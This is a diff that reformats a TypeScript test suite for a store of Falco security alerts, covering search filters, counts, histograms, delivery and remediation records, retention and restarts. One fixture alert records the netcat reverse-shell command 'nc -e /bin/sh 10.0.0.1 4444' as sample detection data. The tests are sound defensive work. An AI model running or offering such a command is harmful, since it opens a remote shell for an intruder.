@@ -12,7 +12,10 @@ export interface StoreHarness {
    * A new store instance over the same data as `store` (a router restart). Only persistent backends
    * provide it; the restart scenario exists only for them.
    */
-  reopen?(store: EventStore, opts: { maxEvents: number; ttlMs: number; now: () => number }): Promise<EventStore>;
+  reopen?(
+    store: EventStore,
+    opts: { maxEvents: number; ttlMs: number; now: () => number },
+  ): Promise<EventStore>;
   /** Applies retention now when the backend does it in the background (Redis trim), then checks nothing is left behind. */
   afterRetention?(store: EventStore, remainingUuids: readonly string[]): Promise<void>;
 }
@@ -30,7 +33,10 @@ export function falcoTime(ms: number): string {
 }
 
 let seq = 0;
-export function makeEvent(minutesAgo: number, over: Partial<FalcoEvent> & { fields?: Record<string, FieldValue> } = {}): FalcoEvent {
+export function makeEvent(
+  minutesAgo: number,
+  over: Partial<FalcoEvent> & { fields?: Record<string, FieldValue> } = {},
+): FalcoEvent {
   seq++;
   const { fields: f, ...rest } = over;
   return {
@@ -39,7 +45,9 @@ export function makeEvent(minutesAgo: number, over: Partial<FalcoEvent> & { fiel
     priority: 'Notice',
     rule: 'Some rule',
     time: falcoTime(NOW - minutesAgo * 60_000),
-    output_fields: fields(f ?? { 'proc.name': 'bash', 'evt.time': new LosslessNumber('1763812800123456789') }),
+    output_fields: fields(
+      f ?? { 'proc.name': 'bash', 'evt.time': new LosslessNumber('1763812800123456789') },
+    ),
     source: 'syscall',
     tags: [],
     hostname: 'node-a',
@@ -68,14 +76,23 @@ function dataset(): Record<string, FalcoEvent> {
       rule: 'Write below binary dir',
       tags: ['filesystem', 'mitre_persistence'],
       hostname: 'node-b',
-      fields: { 'fd.name': '/bin/hack', 'k8s.ns.name': 'payments', 'k8s.pod.name': 'api-7', 'user.loginuid': -1 },
+      fields: {
+        'fd.name': '/bin/hack',
+        'k8s.ns.name': 'payments',
+        'k8s.pod.name': 'api-7',
+        'user.loginuid': -1,
+      },
     }),
     crit: makeEvent(30, {
       priority: 'Critical',
       output: 'Critical Netcat remote code execution in container',
       rule: 'Netcat Remote Code Execution in Container',
       tags: ['container', 'network'],
-      fields: { 'k8s.ns.name': 'shop', 'k8s.pod.name': 'web-2', 'proc.cmdline': 'nc -e /bin/sh 10.0.0.1 4444' },
+      fields: {
+        'k8s.ns.name': 'shop',
+        'k8s.pod.name': 'web-2',
+        'proc.cmdline': 'nc -e /bin/sh 10.0.0.1 4444',
+      },
     }),
     audit: makeEvent(90, {
       priority: 'Warning',
@@ -117,7 +134,9 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
       for (const s of open.splice(0)) await s.close();
     });
 
-    const fresh = async (opts: Partial<{ maxEvents: number; ttlMs: number; now: () => number }> = {}): Promise<EventStore> => {
+    const fresh = async (
+      opts: Partial<{ maxEvents: number; ttlMs: number; now: () => number }> = {},
+    ): Promise<EventStore> => {
       const s = await harness.make({ maxEvents: 1000, ttlMs: 7 * DAY, now: () => NOW, ...opts });
       open.push(s);
       return s;
@@ -127,20 +146,24 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
       const store = await fresh();
       const ev = dataset();
       // recorded out of time order on purpose: answers are ordered by the event's time
-      for (const key of ['info', 'shell', 'old', 'crit', 'write', 'audit']) await store.record(ev[key] as FalcoEvent);
+      for (const key of ['info', 'shell', 'old', 'crit', 'write', 'audit'])
+        await store.record(ev[key] as FalcoEvent);
       return { store, ev };
     };
 
     const uuids = async (store: EventStore, query: EventQuery, page = 1, limit = 100): Promise<string[]> =>
       (await store.search(query, { page, limit })).results.map((e) => e.uuid);
 
-    const names = (ev: Record<string, FalcoEvent>, ...keys: string[]): string[] => keys.map((k) => (ev[k] as FalcoEvent).uuid);
+    const names = (ev: Record<string, FalcoEvent>, ...keys: string[]): string[] =>
+      keys.map((k) => (ev[k] as FalcoEvent).uuid);
 
     it('returns every event newest first by its time, byte for byte as recorded (19-digit numbers kept)', async () => {
       const { store, ev } = await loaded();
       const r = await store.search({}, { page: 1, limit: 100 });
       expect(r.total).toBe(6);
-      expect(r.results.map((e) => e.uuid)).toEqual(names(ev, 'shell', 'write', 'crit', 'audit', 'info', 'old'));
+      expect(r.results.map((e) => e.uuid)).toEqual(
+        names(ev, 'shell', 'write', 'crit', 'audit', 'info', 'old'),
+      );
       expect(r.results.map((e) => serializeEvent(e))).toEqual(
         ['shell', 'write', 'crit', 'audit', 'info', 'old'].map((k) => serializeEvent(ev[k] as FalcoEvent)),
       );
@@ -153,15 +176,23 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
       expect(await uuids(store, { priority: ['Error'] })).toEqual(names(ev, 'write', 'old'));
       expect(await uuids(store, { priority: ['critical,error'] })).toEqual(names(ev, 'write', 'crit', 'old'));
       expect(await uuids(store, { priority: ['info'] })).toEqual(names(ev, 'info'));
-      expect(await uuids(store, { rule: ['Write below binary dir,Console Login'] })).toEqual(names(ev, 'write', 'info'));
+      expect(await uuids(store, { rule: ['Write below binary dir,Console Login'] })).toEqual(
+        names(ev, 'write', 'info'),
+      );
       expect(await uuids(store, { source: ['k8s_audit'] })).toEqual(names(ev, 'audit'));
-      expect(await uuids(store, { source: ['aws_cloudtrail,k8s_audit'] })).toEqual(names(ev, 'audit', 'info'));
+      expect(await uuids(store, { source: ['aws_cloudtrail,k8s_audit'] })).toEqual(
+        names(ev, 'audit', 'info'),
+      );
       expect(await uuids(store, { hostname: ['node-b,node-c'] })).toEqual(names(ev, 'write', 'info'));
       expect(await uuids(store, { tags: ['container'] })).toEqual(names(ev, 'shell', 'crit'));
       // an event with both tags comes out once
-      expect(await uuids(store, { tags: ['container,shell,filesystem'] })).toEqual(names(ev, 'shell', 'write', 'crit', 'old'));
+      expect(await uuids(store, { tags: ['container,shell,filesystem'] })).toEqual(
+        names(ev, 'shell', 'write', 'crit', 'old'),
+      );
       expect(await uuids(store, { namespace: ['shop'] })).toEqual(names(ev, 'shell', 'crit', 'old'));
-      expect(await uuids(store, { namespace: ['payments,shop'] })).toEqual(names(ev, 'shell', 'write', 'crit', 'old'));
+      expect(await uuids(store, { namespace: ['payments,shop'] })).toEqual(
+        names(ev, 'shell', 'write', 'crit', 'old'),
+      );
       expect(await uuids(store, { pod: ['web-1,api-7'] })).toEqual(names(ev, 'shell', 'write'));
       expect(await uuids(store, { rule: ['No such rule'] })).toEqual([]);
       expect(await store.count({ tags: ['container,shell,filesystem'] })).toBe(4);
@@ -170,10 +201,18 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
 
     it('combines parameters with AND', async () => {
       const { store, ev } = await loaded();
-      expect(await uuids(store, { priority: ['Error'], tags: ['filesystem'], namespace: ['payments'] })).toEqual(names(ev, 'write'));
-      expect(await uuids(store, { tags: ['container,filesystem'], namespace: ['shop'] })).toEqual(names(ev, 'shell', 'crit', 'old'));
-      expect(await uuids(store, { priority: ['Critical,Notice'], hostname: ['node-a'], since: '1h' })).toEqual(names(ev, 'shell', 'crit'));
-      expect(await uuids(store, { source: ['syscall'], tags: ['network'], pod: ['web-2'] })).toEqual(names(ev, 'crit'));
+      expect(
+        await uuids(store, { priority: ['Error'], tags: ['filesystem'], namespace: ['payments'] }),
+      ).toEqual(names(ev, 'write'));
+      expect(await uuids(store, { tags: ['container,filesystem'], namespace: ['shop'] })).toEqual(
+        names(ev, 'shell', 'crit', 'old'),
+      );
+      expect(
+        await uuids(store, { priority: ['Critical,Notice'], hostname: ['node-a'], since: '1h' }),
+      ).toEqual(names(ev, 'shell', 'crit'));
+      expect(await uuids(store, { source: ['syscall'], tags: ['network'], pod: ['web-2'] })).toEqual(
+        names(ev, 'crit'),
+      );
       expect(await uuids(store, { rule: ['Console Login'], tags: ['container'] })).toEqual([]);
       expect(await store.count({ tags: ['container,filesystem'], namespace: ['shop'], since: '2d' })).toBe(2);
     });
@@ -185,8 +224,12 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
       expect(await uuids(store, { since: '7d' })).toHaveLength(6);
       expect(await uuids(store, { since: '120' })).toEqual(names(ev, 'shell'));
       expect(await uuids(store, { since: '4h', priority: ['Informational'] })).toEqual(names(ev, 'info'));
-      expect(await uuids(store, { from: falcoTime(NOW - 2 * HOUR), to: falcoTime(NOW - 10 * 60_000) })).toEqual(names(ev, 'crit', 'audit'));
-      await expect(store.search({ since: 'banana' }, { page: 1, limit: 10 })).rejects.toBeInstanceOf(QueryError);
+      expect(
+        await uuids(store, { from: falcoTime(NOW - 2 * HOUR), to: falcoTime(NOW - 10 * 60_000) }),
+      ).toEqual(names(ev, 'crit', 'audit'));
+      await expect(store.search({ since: 'banana' }, { page: 1, limit: 10 })).rejects.toBeInstanceOf(
+        QueryError,
+      );
       await expect(store.count({ priority: ['urgent'] })).rejects.toMatchObject({ field: 'priority' });
     });
 
@@ -224,7 +267,9 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
 
     it('paginates (1-based) with the total of all matches', async () => {
       const store = await fresh();
-      const evs = Array.from({ length: 25 }, (_, i) => makeEvent(i + 1, { priority: i % 2 === 0 ? 'Warning' : 'Notice', tags: ['t' + (i % 3)] }));
+      const evs = Array.from({ length: 25 }, (_, i) =>
+        makeEvent(i + 1, { priority: i % 2 === 0 ? 'Warning' : 'Notice', tags: ['t' + (i % 3)] }),
+      );
       for (const e of evs) await store.record(e);
       const p1 = await store.search({}, { page: 1, limit: 10 });
       const p3 = await store.search({}, { page: 3, limit: 10 });
@@ -242,23 +287,57 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
       expect(tp.results.map((e) => e.uuid)).toEqual(t.slice(4, 8).map((e) => e.uuid));
       const text = await store.search({ filter: 'happened', priority: ['Notice'] }, { page: 3, limit: 5 });
       expect(text.total).toBe(12);
-      expect(text.results.map((e) => e.uuid)).toEqual(evs.filter((e) => e.priority === 'Notice').slice(10).map((e) => e.uuid));
+      expect(text.results.map((e) => e.uuid)).toEqual(
+        evs
+          .filter((e) => e.priority === 'Notice')
+          .slice(10)
+          .map((e) => e.uuid),
+      );
     });
 
     it('counts by group, one count per tag', async () => {
       const { store } = await loaded();
-      expect(await store.countBy('priority', {})).toEqual({ Notice: 1, Error: 2, Critical: 1, Warning: 1, Informational: 1 });
-      expect(await store.countBy('tags', {})).toEqual({
-        T1059: 1, container: 2, shell: 1, filesystem: 2, mitre_persistence: 1, network: 1, k8s: 1, cloud: 1,
+      expect(await store.countBy('priority', {})).toEqual({
+        Notice: 1,
+        Error: 2,
+        Critical: 1,
+        Warning: 1,
+        Informational: 1,
       });
-      expect(await store.countBy('source', { since: '1d' })).toEqual({ syscall: 3, k8s_audit: 1, aws_cloudtrail: 1 });
+      expect(await store.countBy('tags', {})).toEqual({
+        T1059: 1,
+        container: 2,
+        shell: 1,
+        filesystem: 2,
+        mitre_persistence: 1,
+        network: 1,
+        k8s: 1,
+        cloud: 1,
+      });
+      expect(await store.countBy('source', { since: '1d' })).toEqual({
+        syscall: 3,
+        k8s_audit: 1,
+        aws_cloudtrail: 1,
+      });
       expect(await store.countBy('hostname', {})).toEqual({ 'node-a': 3, 'node-b': 1, 'node-c': 1, '': 1 });
-      expect(await store.countBy('rule', { priority: ['Error'] })).toEqual({ 'Write below binary dir': 1, 'Write below etc': 1 });
+      expect(await store.countBy('rule', { priority: ['Error'] })).toEqual({
+        'Write below binary dir': 1,
+        'Write below etc': 1,
+      });
       expect(await store.countBy('k8s.ns.name', {})).toEqual({ shop: 3, payments: 1 });
       expect(await store.countBy('k8s.ns.name', { tags: ['container'] })).toEqual({ shop: 2 });
-      expect(await store.countBy('k8s.pod.name', { since: '1h' })).toEqual({ 'web-1': 1, 'api-7': 1, 'web-2': 1 });
+      expect(await store.countBy('k8s.pod.name', { since: '1h' })).toEqual({
+        'web-1': 1,
+        'api-7': 1,
+        'web-2': 1,
+      });
       expect(await store.countBy('container.image.repository', {})).toEqual({ 'docker.io/library/nginx': 1 });
-      expect(await store.countBy('tags', { filter: 'container' })).toEqual({ T1059: 1, container: 2, shell: 1, network: 1 });
+      expect(await store.countBy('tags', { filter: 'container' })).toEqual({
+        T1059: 1,
+        container: 2,
+        shell: 1,
+        network: 1,
+      });
       expect(await store.countBy('priority', { since: '10m' })).toEqual({ Notice: 1, Error: 1 });
     });
 
@@ -271,7 +350,9 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
         { time: '2026-11-22T11:00:00.000Z', counts: { Notice: 1, Error: 1, Critical: 1 } },
       ]);
       const filtered = await store.histogram({ tags: ['container'] }, DAY);
-      expect(filtered.buckets).toEqual([{ time: '2026-11-22T00:00:00.000Z', counts: { Notice: 1, Critical: 1 } }]);
+      expect(filtered.buckets).toEqual([
+        { time: '2026-11-22T00:00:00.000Z', counts: { Notice: 1, Critical: 1 } },
+      ]);
       const byPriority = await store.histogram({ priority: ['Error'] }, DAY);
       expect(byPriority.buckets).toEqual([
         { time: '2026-11-19T00:00:00.000Z', counts: { Error: 1 } },
@@ -282,28 +363,74 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
     it('keeps delivery status per output and remediation records with the event', async () => {
       const { store, ev } = await loaded();
       const uuid = (ev['crit'] as FalcoEvent).uuid;
-      expect(await store.setDelivery(uuid, { output: 'slack', state: 'queued', attempts: 0, updatedAt: '2026-11-22T11:30:00Z' })).toBe(true);
-      await store.setDelivery(uuid, { output: 'webhook', state: 'retrying', attempts: 1, reason: 'server_error', detail: 'HTTP 502', updatedAt: '2026-11-22T11:30:01Z' });
-      await store.setDelivery(uuid, { output: 'slack', state: 'delivered', attempts: 1, reason: 'ok', updatedAt: '2026-11-22T11:30:02Z' });
-      const rec = { uuid, rule: 'Netcat Remote Code Execution in Container', action: 'delete_pod', outcome: 'acted' as const, target: { namespace: 'shop', pod: 'web-2' }, at: '2026-11-22T11:30:03Z' };
+      expect(
+        await store.setDelivery(uuid, {
+          output: 'slack',
+          state: 'queued',
+          attempts: 0,
+          updatedAt: '2026-11-22T11:30:00Z',
+        }),
+      ).toBe(true);
+      await store.setDelivery(uuid, {
+        output: 'webhook',
+        state: 'retrying',
+        attempts: 1,
+        reason: 'server_error',
+        detail: 'HTTP 502',
+        updatedAt: '2026-11-22T11:30:01Z',
+      });
+      await store.setDelivery(uuid, {
+        output: 'slack',
+        state: 'delivered',
+        attempts: 1,
+        reason: 'ok',
+        updatedAt: '2026-11-22T11:30:02Z',
+      });
+      const rec = {
+        uuid,
+        rule: 'Netcat Remote Code Execution in Container',
+        action: 'delete_pod',
+        outcome: 'acted' as const,
+        target: { namespace: 'shop', pod: 'web-2' },
+        at: '2026-11-22T11:30:03Z',
+      };
       expect(await store.addRemediation(rec)).toBe(true);
       const d = await store.get(uuid);
       expect(d?.event.uuid).toBe(uuid);
       expect(serializeEvent(d?.event as FalcoEvent)).toBe(serializeEvent(ev['crit'] as FalcoEvent));
       expect([...(d?.deliveries ?? [])].sort((a, b) => a.output.localeCompare(b.output))).toEqual([
         { output: 'slack', state: 'delivered', attempts: 1, reason: 'ok', updatedAt: '2026-11-22T11:30:02Z' },
-        { output: 'webhook', state: 'retrying', attempts: 1, reason: 'server_error', detail: 'HTTP 502', updatedAt: '2026-11-22T11:30:01Z' },
+        {
+          output: 'webhook',
+          state: 'retrying',
+          attempts: 1,
+          reason: 'server_error',
+          detail: 'HTTP 502',
+          updatedAt: '2026-11-22T11:30:01Z',
+        },
       ]);
       expect(d?.remediations).toEqual([rec]);
       expect(await store.get('no-such-uuid')).toBeUndefined();
-      expect(await store.setDelivery('no-such-uuid', { output: 'slack', state: 'queued', attempts: 0, updatedAt: '2026-11-22T11:30:00Z' })).toBe(false);
+      expect(
+        await store.setDelivery('no-such-uuid', {
+          output: 'slack',
+          state: 'queued',
+          attempts: 0,
+          updatedAt: '2026-11-22T11:30:00Z',
+        }),
+      ).toBe(false);
       expect(await store.addRemediation({ ...rec, uuid: 'no-such-uuid' })).toBe(false);
       expect((await store.get((ev['shell'] as FalcoEvent).uuid))?.deliveries).toEqual([]);
     });
 
     it('exports every match newest first, past any page size', async () => {
       const store = await fresh({ maxEvents: 5000 });
-      const evs = Array.from({ length: 1203 }, (_, i) => makeEvent(i / 10, { priority: i % 3 === 0 ? 'Critical' : 'Notice', tags: i % 2 === 0 ? ['a'] : ['a', 'b'] }));
+      const evs = Array.from({ length: 1203 }, (_, i) =>
+        makeEvent(i / 10, {
+          priority: i % 3 === 0 ? 'Critical' : 'Notice',
+          tags: i % 2 === 0 ? ['a'] : ['a', 'b'],
+        }),
+      );
       for (const e of evs) await store.record(e);
       const out: string[] = [];
       for await (const e of store.export({ tags: ['a,b'] })) out.push(e.uuid);
@@ -316,9 +443,14 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
 
     it('keeps at most maxEvents, dropping the oldest', async () => {
       const store = await fresh({ maxEvents: 5 });
-      const evs = Array.from({ length: 8 }, (_, i) => makeEvent(80 - i * 10, { tags: ['x'], fields: { 'k8s.ns.name': 'ns' + (i % 2) } }));
+      const evs = Array.from({ length: 8 }, (_, i) =>
+        makeEvent(80 - i * 10, { tags: ['x'], fields: { 'k8s.ns.name': 'ns' + (i % 2) } }),
+      );
       for (const e of evs) await store.record(e);
-      const kept = evs.slice(3).reverse().map((e) => e.uuid);
+      const kept = evs
+        .slice(3)
+        .reverse()
+        .map((e) => e.uuid);
       expect(await uuids(store, {})).toEqual(kept);
       expect(await store.count({ tags: ['x'] })).toBe(5);
       expect(await store.countBy('k8s.ns.name', {})).toEqual({ ns0: 2, ns1: 3 });
@@ -329,7 +461,11 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
     it('forgets events older than the TTL', async () => {
       let now = NOW;
       const store = await fresh({ ttlMs: 2 * HOUR, now: () => now });
-      const evs = [makeEvent(100, { priority: 'Error', tags: ['t'] }), makeEvent(50, { tags: ['t'] }), makeEvent(10, { tags: ['t'] })];
+      const evs = [
+        makeEvent(100, { priority: 'Error', tags: ['t'] }),
+        makeEvent(50, { tags: ['t'] }),
+        makeEvent(10, { tags: ['t'] }),
+      ];
       for (const e of evs) await store.record(e);
       // already past the TTL when it arrives
       await store.record(makeEvent(3 * 60));
@@ -340,7 +476,15 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
       expect(await store.countBy('tags', {})).toEqual({ t: 2 });
       expect(await store.countBy('priority', {})).toEqual({ Notice: 2 });
       expect(await store.get((evs[0] as FalcoEvent).uuid)).toBeUndefined();
-      expect(await store.addRemediation({ uuid: (evs[0] as FalcoEvent).uuid, rule: 'r', action: 'a', outcome: 'skipped', at: '2026-11-22T12:00:00Z' })).toBe(false);
+      expect(
+        await store.addRemediation({
+          uuid: (evs[0] as FalcoEvent).uuid,
+          rule: 'r',
+          action: 'a',
+          outcome: 'skipped',
+          at: '2026-11-22T12:00:00Z',
+        }),
+      ).toBe(false);
       await harness.afterRetention?.(store, [(evs[2] as FalcoEvent).uuid, (evs[1] as FalcoEvent).uuid]);
     });
 
@@ -349,8 +493,19 @@ export function storeScenarios(name: string, harness: StoreHarness): void {
       it('keeps history, deliveries and remediations across a restart', async () => {
         const { store, ev } = await loaded();
         const uuid = (ev['write'] as FalcoEvent).uuid;
-        await store.setDelivery(uuid, { output: 'slack', state: 'delivered', attempts: 1, updatedAt: '2026-11-22T11:56:00Z' });
-        await store.addRemediation({ uuid, rule: 'Write below binary dir', action: 'delete_pod', outcome: 'dry_run', at: '2026-11-22T11:56:01Z' });
+        await store.setDelivery(uuid, {
+          output: 'slack',
+          state: 'delivered',
+          attempts: 1,
+          updatedAt: '2026-11-22T11:56:00Z',
+        });
+        await store.addRemediation({
+          uuid,
+          rule: 'Write below binary dir',
+          action: 'delete_pod',
+          outcome: 'dry_run',
+          at: '2026-11-22T11:56:01Z',
+        });
         await store.close();
         open.splice(open.indexOf(store), 1);
         const again = await reopen(store, { maxEvents: 1000, ttlMs: 7 * DAY, now: () => NOW });
